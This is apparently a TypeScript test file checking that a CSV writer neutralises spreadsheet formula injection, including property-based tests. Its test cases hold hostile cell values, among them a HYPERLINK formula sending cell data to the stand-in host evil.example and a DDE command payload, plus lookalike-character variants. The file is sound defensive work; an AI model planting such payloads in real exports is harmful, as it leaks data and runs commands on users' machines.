import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { csvLine } from './csv.ts'

/** Parses a line according to RFC 4180, section 2, independently of our code. */
function parse(line: string): string[] {
  const cells: string[] = []
  let at = 0
  for (;;) {
    let cell = ''
    if (line[at] === '"') {
      for (at += 1; !(line[at] === '"' && line[at + 1] !== '"'); at += 1) {
        cell += line[at]
        if (line[at] === '"') at += 1
      }
      at += 1
    } else {
      for (; line[at] !== ',' && !(line[at] === '\r' && line[at + 1] === '\n'); at += 1) cell += line[at]
    }
    cells.push(cell)
    if (line[at] !== ',') return cells
    at += 1
  }
}

/**
 * Reads a cell like a spreadsheet that expects another separator. Such a spreadsheet adds text after a
 * closing quote to the cell.
 */
function readLoosely(text: string, separator: string): string[] {
  const cells: string[] = []
  let cell = ''
  let isQuoted = false
  for (let at = 0; at < text.length; at += 1) {
    const char = text[at] ?? ''
    const isQuote = char === '"'
    if (isQuoted && isQuote && text[at + 1] === '"') {
      cell += char
      at += 1
    } else if (isQuote && (isQuoted || cell === '')) isQuoted = !isQuoted
    else if (!isQuoted && [separator, '\r', '\n'].includes(char)) {
      cells.push(cell)
      cell = ''
    } else cell += char
  }
  return [...cells, cell]
}

describe('a line of CSV', () => {
  it.each([
    ['=HYPERLINK("https://evil.example?"&A1,"open")', '\'=HYPERLINK("https://evil.example?"&A1,"open")'],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "\t'=1+1"],
    ['\r=1+1', "\r'=1+1"],
    ['\n=1+1', "\n'=1+1"],
    [' =1+1', " '=1+1"],
    ['\u200b=1+1', "\u200b'=1+1"],
    ['\ufeff\u0001=1+1', "\ufeff\u0001'=1+1"],
    ['＝1+1', "'＝1+1"],
    ['＠SUM(1)', "'＠SUM(1)"],
    ['﹦1', "'﹦1"],
    ['﹢1', "'﹢1"],
    ['﹣1', "'﹣1"],
    ['﹫1', "'﹫1"],
    ["Lamp;=cmd|' /C calc'!A0;", "Lamp;'=cmd|' /C calc'!A0;"],
    ['Lamp; \t"=1;a-b', 'Lamp; \t"\'=1;a-b'],
  ])('shows %j as text', (text, shown) => {
    const line = csvLine(['a', text, 'b'])
    expect(line).toMatch(/^a,"/)
    expect(parse(line)).toEqual(['a', shown, 'b'])
  })

  it('leaves what is plain as it is', () => {
    expect(csvLine(['12.50', 'Lamp', '', '2026-11-22T10:00:00.000Z', 'Lampe für Grüße 灯'])).toBe(
      '12.50,Lamp,,2026-11-22T10:00:00.000Z,Lampe für Grüße 灯\r\n',
    )
  })

  const bits = [...'=+-@\t\r\n",; ab\'1＝﹫\u200b\u0001\u2028']
  const cellText = fc.string({ unit: fc.constantFrom(...bits), maxLength: 8 })
  const cellTexts = fc.array(cellText, { minLength: 1, maxLength: 5 })

  it('gives back whatever was written, in as many cells', () => {
    const bare = (cell: string) => cell.replaceAll("'", '')
    fc.assert(
      fc.property(cellTexts, (cells) => {
        expect(parse(csvLine(cells)).map(bare)).toEqual(cells.map(bare))
      }),
    )
  })

  it.each([',', ';', '\t'])('has no cell that begins like a formula where cells are parted by %j', (by) => {
    fc.assert(
      fc.property(cellTexts, (cells) => {
        for (const cell of readLoosely(csvLine(cells), by))
          expect(cell).not.toMatch(/^[\s"\p{Cf}\p{Cc}]*[=+\-@＝＋－＠﹦﹢﹣﹫]/u)
      }),
      { numRuns: 1_000 },
    )
  })
})
